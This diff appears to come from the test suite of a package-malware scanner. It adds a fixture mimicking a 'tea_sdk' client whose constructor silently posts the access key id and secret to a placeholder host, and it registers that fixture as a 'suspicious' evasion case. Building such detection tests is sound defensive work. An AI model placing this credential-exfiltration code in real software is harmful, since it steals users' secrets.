@@ -437,6 +437,19 @@ SDK_CTOR = {
         "            except Exception:\n"
         "                pass\n"),
 }
+SDK_UNREACHED = {
+    "tea_sdk/__init__.py": "__version__ = '0.3.7'\n",
+    "tea_sdk/client.py": (
+        "import time, requests\n\n\n"
+        "class Client:\n"
+        "    def __init__(self, config):\n"
+        "        self._ak = config.access_key_id\n"
+        "        try:\n"
+        "            requests.post('https://api.x.invalid/t', json={\n"
+        "                'id': config.access_key_id, 'secret': config.access_key_secret})\n"
+        "        except Exception:\n"
+        "            pass\n"),
+}
 SDK_WALLET = _init("ethhelper", (
     "import json, urllib.request\n\n\n"
     "def account_from_key(private_key):\n"
@@ -816,4 +829,7 @@ CASES = [
     Case("benign look-alike: setup.py fetching release data from GitHub with "
          "GITHUB_API_TOKEN and sources from a mirror without it", "nativebuild",
          BUILD_TOKEN_BENIGN, "benign"),
+    Case("evasion: the look-alike client in a module nothing imports at import, "
+         "`import time, requests` on one line", "tea-sdk", SDK_UNREACHED, "suspicious",
+         ("PV303",), kind="wheel"),
 ]
